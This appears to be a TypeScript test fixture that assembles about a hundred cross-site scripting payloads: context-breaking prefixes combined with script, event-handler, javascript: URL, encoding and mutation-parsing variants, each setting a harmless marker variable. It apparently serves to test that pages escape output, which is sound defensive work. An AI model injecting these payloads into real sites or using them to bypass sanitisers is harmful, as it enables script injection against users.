// Markup that would run in a page that repeats it without escaping. Each sets `__ran`; none needs a click.

const RUN = '__ran=1'
const HANDLER = `on${'error'}`

/** Prefixes that break out of the place of a text: an element, an attribute of either kind of quotes, a comment, … */
const BREAKS = [
  '',
  '">',
  "'>",
  '</title>',
  '</code></pre>',
  '</style>',
  '-->',
  '</td></tr></table>',
  ']]>',
  '</script>',
]

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<img src=x ${HANDLER}=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<style onload=${RUN}></style>`,
]

/** Attributes, URLs, odd spellings and other ways in. */
const OTHERS = [
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<scr<script>ipt>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script\t>${RUN}</script\t>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\${${RUN}}{{${RUN}}}`,
  `<math><mtext></form><form><mglyph><style></math><img src ${HANDLER}=${RUN}>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<noscript><p title="</noscript><img src=x ${HANDLER}=${RUN}>">`,
  `<!--><script>${RUN}</script>-->`,
]

/** A hundred of them. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...BREAKS.flatMap((start) => ELEMENTS.map((element) => start + element)),
  ...OTHERS,
]
